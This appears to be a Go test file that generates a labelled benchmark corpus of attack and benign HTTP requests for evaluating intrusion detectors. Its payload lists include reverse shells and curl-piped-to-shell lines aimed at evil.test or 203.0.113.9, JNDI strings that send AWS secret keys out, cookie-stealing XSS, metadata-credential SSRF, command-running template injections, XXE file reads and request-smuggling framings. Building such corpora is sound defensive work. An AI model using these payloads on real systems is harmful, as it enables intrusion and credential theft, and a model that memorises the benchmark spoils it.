package detectbench

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/corpus.jsonl from the generator")

const corpusPath = "testdata/corpus.jsonl"

// The payloads below are written for this corpus: each class mixes the
// textbook form with the obfuscations detectors must see through.
var attackPayloads = map[string][]string{
	"sqli": {
		"1' OR '1'='1", "' OR 1=1--", "admin'--", "1 UNION SELECT username,password FROM users",
		"1) UNION ALL SELECT NULL,NULL,version()--", "' AND SLEEP(5)--", "1; DROP TABLE orders--",
		"' UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables--",
		"1' AND extractvalue(1,concat(0x7e,(SELECT user())))--", "'; WAITFOR DELAY '0:0:5'--",
		"\" OR \"\"=\"", "1' ORDER BY 3--", "'||(SELECT pg_sleep(5))||'",
		"1' AND (SELECT COUNT(*) FROM sqlite_master)>0--", "x' AND updatexml(1,concat(0x3a,database()),1)-- -",
		"') OR ('a'='a", "1;SELECT load_file('/etc/hostname')", "10 AND BENCHMARK(5000000,MD5(1))",
		"1'/*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -", "-1' UnIoN SeLeCt 1,@@version,3#",
	},
	"xss": {
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.domain)>", "<svg/onload=alert(1)>",
		"javascript:alert(document.cookie)", "<iframe src=\"javascript:alert(1)\">", "'><body onload=prompt(1)>",
		"<details open ontoggle=alert(1)>", "<a href=\"#\" onclick=\"fetch('//evil.test/'+document.cookie)\">x</a>",
		"<ScRiPt src=//evil.test/x.js></sCrIpT>", "<img src=1 oNeRrOr=eval(atob('YWxlcnQoMSk='))>",
		"\" onmouseover=\"alert(1)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
		"<input autofocus onfocus=alert(1)>", "<video><source onerror=\"alert(1)\">",
		"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "</textarea><script>alert(1)</script>",
		"<body background=\"javascript:alert(1)\">", "<marquee onstart=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
	},
	"traversal": {
		"../../../etc/passwd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
		"/var/www/../../etc/shadow", "%2e%2e%2f%2e%2e%2fetc%2fhosts", "..%252f..%252f..%252fetc%252fpasswd",
		"..%c0%af..%c0%afetc%c0%afpasswd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
		"/proc/self/environ", "../../../../../../root/.ssh/id_rsa", "..;/..;/WEB-INF/web.xml",
		"C:\\Windows\\System32\\drivers\\etc\\hosts", "../../../.env", "../../.git/config", "/etc/passwd%00.png",
		"....\\\\....\\\\boot.ini", "../../../../var/log/auth.log", "..%5c..%5c..%5cwindows%5cwin.ini",
		"%u002e%u002e%u2215etc%u2215passwd",
	},
	"cmdi": {
		"; cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "127.0.0.1; ls -la",
		"&& curl http://evil.test/x.sh | sh", "|| wget -O- http://evil.test/a|bash", ";${IFS}cat${IFS}/etc/hostname",
		"a\nid", "; sleep 10", "| nc -e /bin/sh 203.0.113.9 4444", "& ping -c 5 127.0.0.1 &",
		";bash -i >& /dev/tcp/203.0.113.9/8080 0>&1", "| powershell -enc SQBFAFgA", "& cmd /c dir",
		"`sleep 5`", ";echo $(id)", "x|base64 -d|sh", "; rm -rf /tmp/x", "$(curl -s http://evil.test)",
	},
	"ssrf": {
		"http://127.0.0.1:8080/admin", "http://localhost/server-status", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://metadata.google.internal/computeMetadata/v1/", "http://[::1]:6379/", "http://0.0.0.0:22",
		"http://2130706433/", "http://0x7f.0x0.0x0.0x1/", "http://0177.0.0.1/", "http://127.1/",
		"http://10.0.0.5/internal", "http://192.168.1.1/cgi-bin/", "http://172.16.0.10:9200/_cat/indices",
		"gopher://127.0.0.1:6379/_FLUSHALL", "dict://localhost:11211/stats", "http://user@127.0.0.1/",
		"http://[::ffff:127.0.0.1]/", "http://127.0.0.1.nip.io/", "https://evil.test@169.254.169.254/",
		"http://[fd00:ec2::254]/latest/meta-data/",
	},
	"jndi": {
		"${jndi:ldap://evil.test/a}", "${jndi:rmi://evil.test:1099/x}", "${${lower:j}ndi:ldap://evil.test/a}",
		"${${::-j}${::-n}${::-d}${::-i}:ldap://evil.test/a}", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.test/a}",
		"${j${k8s:k5:-ND}i:ldap://evil.test/a}", "${jndi:dns://evil.test/x}",
		"${${upper:j}${upper:n}${lower:d}${lower:i}:ldaps://evil.test/a}", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.test/a}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.test/a}", "${jndi:iiop://evil.test/a}",
		"${${lower:${lower:jndi}}:ldap://evil.test/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.test/a}",
		"${env:AWS_SECRET_ACCESS_KEY}", "${jnd${upper:ı}:ldap://evil.test/a}", "${${::-J}NDI:LDAP://evil.test/a}",
		"x${jndi:ldap://127.0.0.1#evil.test:1389/a}", "${jndi:corba://evil.test/a}", "${sys:java.version}${jndi:ldap://evil.test/v}",
		"${${lower:${upper:j}}${lower:n}di:ldap://evil.test/q}",
	},
	"ssti": {
		"{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
		"${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
		"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
		"*{7*7}", "{% import os %}{{os.system('id')}}", "@(1+2)", "{{lipsum.__globals__['os'].popen('id').read()}}",
		"{{constructor.constructor('return process')().exit()}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
		"__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
	},
	"crlf": {
		"%0d%0aSet-Cookie:%20admin=1", "%0D%0ALocation:%20http://evil.test", "%0d%0a%0d%0a<h1>injected</h1>",
		"%0aX-Injected:%20yes", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%250d%250aSet-Cookie:x=1",
		"%0dRefresh:0;url=http://evil.test", "/%0d%0aLocation:%20//evil.test", "en%0d%0aX-Forwarded-Host:%20evil.test",
		"%0d%0a%09Set-Cookie:%20sid=attacker", "abc%0D%0ACache-Control:%20public", "%0d%0aAccess-Control-Allow-Origin:%20*",
		"ok%0d%0aX-XSS-Protection:%200", "%0a%0aHTTP/1.1%20302%20Found", "%5cr%5cnSet-Cookie:%20a=b", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
		"%u000d%u000aSet-Cookie:%20u=1", "%26%2313;%26%2310;Location:%20http://evil.test", "%0d%0aTransfer-Encoding:%20chunked", "a%0d%0aHost:%20evil.test",
	},
}

// xxePayloads are XML documents; they travel as a body or inside a field.
var xxePayloads = []string{
	`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
	`<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.test/x.dtd"> %ext;]><r/>`,
	`<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.test/evil.dtd"><data>1</data>`,
	`<!DOCTYPE x [<!ENTITY a PUBLIC "-//x//y" "http://169.254.169.254/">]><x>&a;</x>`,
	`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
	`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`,
	`<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"> ]><foo>&xxe;</foo>`,
	`<?xml version="1.0"?><!DOCTYPE order [<!ENTITY  x   SYSTEM  "expect://id">]><order><id>&x;</id></order>`,
	`<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&e;</soap:Body></soap:Envelope>`,
	`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
	`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d SYSTEM "http://203.0.113.9/p.dtd"> %d; %all;]><a/>`,
	`<!doctype x [<!entity y system "netdoc:///etc/passwd">]><x>&y;</x>`,
	`<?xml version="1.0"?>` + "\n" + `<!DOCTYPE user [` + "\n  " + `<!ENTITY name SYSTEM "file:///proc/self/environ">` + "\n" + `]>` + "\n" + `<user><name>&name;</name></user>`,
	`<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE invoice [<!ENTITY % p1 SYSTEM "ftp://evil.test/p"><!ENTITY % p2 "<!ENTITY e SYSTEM 'x'>">%p1;]><invoice/>`,
}

// nosqlCases are complete (query, json body, form body) injections, since
// NoSQL operators ride in parameter names and object keys.
var nosqlQuery = []string{
	"username=admin&password[$ne]=x", "user[$ne]=nobody&pass[$ne]=nobody", "login[$regex]=^adm&password[$gt]=",
	"id[$gt]=0", "email[$exists]=true", "role[$nin][]=user", "name[$where]=sleep(100)",
	"username%5B%24ne%5D=a&password%5B%24ne%5D=a", "q={\"$gt\":\"\"}", "filter={\"$where\":\"this.password.length>0\"}",
	"search=admin'%20||%20'1'=='1", "name=';return%20true;var%20x='", "user[%24regex]=.*", "price[$lt]=0&price[$gt]=-1",
}

var nosqlJSON = []string{
	`{"username":"admin","password":{"$ne":null}}`,
	`{"username":{"$regex":"^adm"},"password":{"$gt":""}}`,
	`{"$where":"this.password.length > 0"}`,
	`{"filter":{"$or":[{"role":"admin"},{"role":{"$exists":true}}]}}`,
	`{"user":{"$in":["admin","root"]},"pass":{"$ne":"x"}}`,
	`{"query":{"$expr":{"$gt":["$balance","$limit"]}}}`,
	`{"email":"a@example.com","token":{"$nin":[]}}`,
	`{"login":"admin","password":{"$regex":".*"}}`,
	`{"search":{"name":{"$where":"sleep(5000)"}}}`,
	`{"id":{"$gte":0},"sort":"name"}`,
	`{"username":"admin","password":"' || '1'=='1"}`,
	`{"user":{"name":{"$not":{"$eq":"x"}}}}`,
	`{"pipeline":[{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}]}`,
	`{"q":"1; db.users.drop()"}`,
}

var nosqlForm = []string{
	"username=admin&password%5B%24ne%5D=1", "user[$gt]=&pass[$gt]=", "email[$regex]=.*%40corp.example&password[$ne]=",
	"code[$exists]=false", "otp[$ne]=000000", "name[$in][]=admin&name[$in][]=root", "token[$nin][]=x",
	"u=admin&p=%27%3Breturn+true%3Bvar+a%3D%27", "account[$where]=1", "pin[$lt]=99999",
	"q=%7B%22%24ne%22%3A1%7D", "session[$regex]=^a",
}

// smuggling requests are described by their framing headers and body.
type smuggle struct {
	proto   string
	headers [][2]string
	body    string
}

func smugglingCases() []smuggle {
	body := "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
	te := []string{"chunked", " chunked", "chunked ", "xchunked", "chunked, cow", "\tchunked", "Chunked", "chunked\x0b",
		"identity, chunked", "CHUNKED", "chunk", "chunked;q=1"}
	var out []smuggle
	// CL.TE with every TE spelling.
	for _, v := range te {
		out = append(out, smuggle{headers: [][2]string{{"Content-Length", "6"}, {"Transfer-Encoding", v}}, body: body})
	}
	// TE alone but obfuscated (a front end that ignores it falls back to CL).
	for _, v := range []string{" chunked", "xchunked", "chunked, cow", "\tchunked", "chunked\x0b", "chunk", "gzip, chunked, identity", "chunked;q=1"} {
		out = append(out, smuggle{headers: [][2]string{{"Transfer-Encoding", v}}, body: body})
	}
	// TE.TE: two TE headers.
	out = append(out,
		smuggle{headers: [][2]string{{"Transfer-Encoding", "chunked"}, {"Transfer-Encoding", "identity"}}, body: body},
		smuggle{headers: [][2]string{{"Transfer-Encoding", "chunked"}, {"Transfer-encoding", "cow"}}, body: body},
		smuggle{headers: [][2]string{{"Transfer-Encoding", "identity"}, {"Transfer-Encoding", "chunked"}}, body: body},
	)
	// Padded or mangled header names.
	out = append(out,
		smuggle{headers: [][2]string{{"Transfer-Encoding ", "chunked"}, {"Content-Length", "4"}}, body: body},
		smuggle{headers: [][2]string{{" Transfer-Encoding", "chunked"}}, body: body},
		smuggle{headers: [][2]string{{"Transfer_Encoding", "chunked"}, {"Content-Length", "4"}}, body: body},
		smuggle{headers: [][2]string{{"Content-Length ", "4"}, {"Content-Length", "40"}}, body: "AAAA" + body},
	)
	// CL.CL: differing lengths.
	for _, pair := range [][2]string{{"6", "7"}, {"0", "44"}, {"44", "0"}, {"5", "5, 6"}} {
		out = append(out, smuggle{headers: [][2]string{{"Content-Length", pair[0]}, {"Content-Length", pair[1]}}, body: body})
	}
	out = append(out, smuggle{headers: [][2]string{{"Content-Length", "6, 44"}}, body: body})
	// Malformed CL values.
	for _, v := range []string{"+44", "0x2c", "-1", "44abc", "4 4", "99999999999999999999999"} {
		out = append(out, smuggle{headers: [][2]string{{"Content-Length", v}}, body: body})
	}
	// TE on HTTP/1.0 (no chunked there: framing is ambiguous).
	out = append(out,
		smuggle{proto: "HTTP/1.0", headers: [][2]string{{"Transfer-Encoding", "chunked"}}, body: body},
		smuggle{proto: "HTTP/1.0", headers: [][2]string{{"Transfer-Encoding", "chunked"}, {"Content-Length", "3"}}, body: body},
	)
	return out
}

type placement func(rng *rand.Rand, class, payload string) Entry

var baseUA = []string{
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
	"okhttp/4.12.0", "python-requests/2.32.3", "Go-http-client/1.1", "MyShop-iOS/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", "axios/1.6.8", "curl/8.5.0",
}

func baseHeaders(rng *rand.Rand) [][2]string {
	return [][2]string{
		{"Host", "api.example.com"},
		{"User-Agent", baseUA[rng.IntN(len(baseUA))]},
		{"Accept", "application/json"},
	}
}

var paramNames = map[string][]string{
	"sqli":      {"id", "user", "sort", "q", "category", "order_id"},
	"xss":       {"q", "name", "comment", "title", "message", "return"},
	"traversal": {"file", "path", "doc", "template", "download", "image"},
	"cmdi":      {"host", "ip", "domain", "filename", "target", "cmd"},
	"ssrf":      {"url", "callback", "webhook", "image_url", "feed", "redirect_uri"},
	"jndi":      {"q", "name", "version", "search", "lang", "x"},
	"ssti":      {"name", "template", "greeting", "subject", "q", "title"},
	"crlf":      {"redirect", "next", "lang", "return_to", "url", "page"},
	"xxe":       {"xml", "data", "payload", "doc", "feed", "soap"},
}

func pick(rng *rand.Rand, s []string) string { return s[rng.IntN(len(s))] }

func placeQuery(rng *rand.Rand, class, p string) Entry {
	e := Entry{Method: "GET", Path: "/api/v1/" + pick(rng, []string{"items", "search", "reports", "users", "products", "files"}),
		Headers: baseHeaders(rng)}
	val := url.QueryEscape(p)
	if class == "crlf" {
		val = p // already percent-encoded as sent
	}
	e.Query = "page=" + fmt.Sprint(1+rng.IntN(5)) + "&" + pick(rng, paramNames[class]) + "=" + val
	return e
}

func placeJSON(rng *rand.Rand, class, p string) Entry {
	field := pick(rng, paramNames[class])
	if class == "crlf" {
		// The payload is written as sent in a URL; a JSON client sends
		// the decoded characters.
		if u, err := url.QueryUnescape(strings.ReplaceAll(p, "+", "%2B")); err == nil {
			p = u
		}
	}
	var doc any
	switch rng.IntN(3) {
	case 0:
		doc = map[string]any{field: p, "limit": 20}
	case 1:
		doc = map[string]any{"data": map[string]any{"type": "order", "attributes": map[string]any{field: p, "quantity": 2}}}
	default:
		doc = map[string]any{"items": []any{map[string]any{"sku": "A-100", field: p}}, "currency": "EUR"}
	}
	body := mustJSON(doc)
	h := append(baseHeaders(rng), [2]string{"Content-Type", "application/json"}, [2]string{"Content-Length", fmt.Sprint(len(body))})
	return Entry{Method: pick(rng, []string{"POST", "PUT", "PATCH"}), Path: "/api/v1/" + pick(rng, []string{"orders", "profile", "messages", "settings"}), Headers: h, Body: body}
}

func placeForm(rng *rand.Rand, class, p string) Entry {
	val := url.QueryEscape(p)
	if class == "crlf" {
		val = p
	}
	body := "csrf=8f14e45fceea167a&" + pick(rng, paramNames[class]) + "=" + val + "&submit=Save"
	h := append(baseHeaders(rng), [2]string{"Content-Type", "application/x-www-form-urlencoded"}, [2]string{"Content-Length", fmt.Sprint(len(body))})
	return Entry{Method: "POST", Path: "/account/" + pick(rng, []string{"update", "contact", "feedback"}), Headers: h, Body: body}
}

func placeHeader(rng *rand.Rand, class, p string) Entry {
	e := Entry{Method: "GET", Path: "/api/v1/status", Headers: baseHeaders(rng)}
	if class == "cmdi" || class == "sqli" || class == "traversal" || class == "crlf" {
		// Percent-encode into a header that apps reflect or parse.
		name := pick(rng, []string{"Referer", "X-Forwarded-For", "X-Api-Version", "X-Client-Ref"})
		v := url.PathEscape(p)
		if class == "crlf" {
			v = p
		}
		if name == "Referer" {
			v = "https://shop.example.com/cart?ref=" + v
		}
		e.Headers = append(e.Headers, [2]string{name, v})
		return e
	}
	switch rng.IntN(3) {
	case 0:
		e.Headers[1][1] = p // User-Agent
	case 1:
		e.Headers = append(e.Headers, [2]string{pick(rng, []string{"X-Api-Version", "Referer", "X-Forwarded-For", "X-Request-Source"}), p})
	default:
		e.Headers = append(e.Headers, [2]string{"Cookie", "theme=dark; pref=" + url.QueryEscape(p)})
	}
	return e
}

func placePath(rng *rand.Rand, class, p string) Entry {
	seg := strings.NewReplacer(" ", "%20", "?", "%3F", "#", "%23", "\n", "%0A", "\"", "%22", "<", "%3C", ">", "%3E", "`", "%60", "{", "%7B", "}", "%7D", "|", "%7C", "\\", "%5C").Replace(p)
	prefix := "/api/v1/" + pick(rng, []string{"files", "users", "docs", "lookup"}) + "/"
	if class == "traversal" && strings.HasPrefix(seg, "/") {
		prefix = strings.TrimSuffix(prefix, "/")
	}
	return Entry{Method: "GET", Path: prefix + seg, Headers: baseHeaders(rng)}
}

func placeXMLBody(rng *rand.Rand, _ string, p string) Entry {
	ct := pick(rng, []string{"application/xml", "text/xml", "application/soap+xml"})
	h := append(baseHeaders(rng), [2]string{"Content-Type", ct}, [2]string{"Content-Length", fmt.Sprint(len(p))})
	return Entry{Method: "POST", Path: "/api/v1/" + pick(rng, []string{"import", "invoices", "soap/OrderService", "feeds"}), Headers: h, Body: p}
}

func mustJSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSpace(b.String())
}

func generateCorpus() []Entry {
	rng := rand.New(rand.NewPCG(7, 11))
	var out []Entry
	add := func(class, where string, e Entry) {
		e.Class, e.Where = class, where
		e.ID = fmt.Sprintf("%s-%03d", class, countClass(out, class)+1)
		out = append(out, e)
	}
	places := map[string]placement{"query": placeQuery, "json": placeJSON, "form": placeForm, "header": placeHeader, "path": placePath}
	order := []string{"query", "json", "form", "header", "path"}
	for _, class := range []string{"sqli", "xss", "traversal", "cmdi", "ssrf", "jndi", "ssti", "crlf"} {
		for i, p := range attackPayloads[class] {
			// Each payload in two different places: 40 per class.
			for k := 0; k < 2; k++ {
				where := order[(i*2+k)%len(order)]
				if class == "ssrf" && where == "path" {
					where = "query"
				}
				add(class, where, places[where](rng, class, p))
			}
		}
	}
	for i, p := range xxePayloads {
		add("xxe", "body", placeXMLBody(rng, "xxe", p))
		where := []string{"query", "json", "form"}[i%3]
		add("xxe", where, places[where](rng, "xxe", p))
		add("xxe", "body", placeXMLBody(rng, "xxe", strings.ReplaceAll(p, "\"", "'")))
	}
	for _, q := range nosqlQuery {
		e := Entry{Method: "GET", Path: "/api/v1/users", Query: q, Headers: baseHeaders(rng)}
		add("nosqli", "query", e)
	}
	for _, b := range nosqlJSON {
		h := append(baseHeaders(rng), [2]string{"Content-Type", "application/json"}, [2]string{"Content-Length", fmt.Sprint(len(b))})
		add("nosqli", "json", Entry{Method: "POST", Path: "/api/v1/login", Headers: h, Body: b})
	}
	for _, b := range nosqlForm {
		h := append(baseHeaders(rng), [2]string{"Content-Type", "application/x-www-form-urlencoded"}, [2]string{"Content-Length", fmt.Sprint(len(b))})
		add("nosqli", "form", Entry{Method: "POST", Path: "/login", Headers: h, Body: b})
	}
	for _, s := range smugglingCases() {
		h := [][2]string{{"Host", "api.example.com"}, {"User-Agent", pick(rng, baseUA)}, {"Accept", "*/*"}, {"Content-Type", "application/x-www-form-urlencoded"}}
		add("smuggling", "header", Entry{Method: "POST", Path: "/api/v1/cart", Proto: s.proto, Headers: append(h, s.headers...), Body: s.body})
	}
	for _, e := range benignCorpus(rng) {
		add(Benign, e.Where, e)
	}
	return out
}

func countClass(es []Entry, class string) int {
	n := 0
	for _, e := range es {
		if e.Class == class {
			n++
		}
	}
	return n
}

// TestGenerateCorpus rewrites the corpus with -update and otherwise
// checks that the committed file is what the generator produces.
func TestGenerateCorpus(t *testing.T) {
	for _, f := range []struct {
		path string
		es   []Entry
		min  int
	}{{corpusPath, generateCorpus(), 40}, {holdoutPath, generateHoldout(), 10}} {
		var b bytes.Buffer
		for _, e := range f.es {
			b.WriteString(mustJSON(e))
			b.WriteByte('\n')
		}
		if *update {
			if err := os.WriteFile(f.path, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		got, err := os.ReadFile(f.path)
		if err != nil {
			t.Fatalf("read corpus (run with -update): %v", err)
		}
		if !bytes.Equal(got, b.Bytes()) {
			t.Fatalf("%s is stale: go test ./bench/detect -run TestGenerateCorpus -update", f.path)
		}
		counts := map[string]int{}
		for _, e := range f.es {
			counts[e.Class]++
		}
		for class, n := range counts {
			want := f.min
			if class == Benign {
				want = f.min * 7
			}
			if n < want {
				t.Errorf("%s: class %s has %d requests, want >= %d", f.path, class, n, want)
			}
		}
	}
}
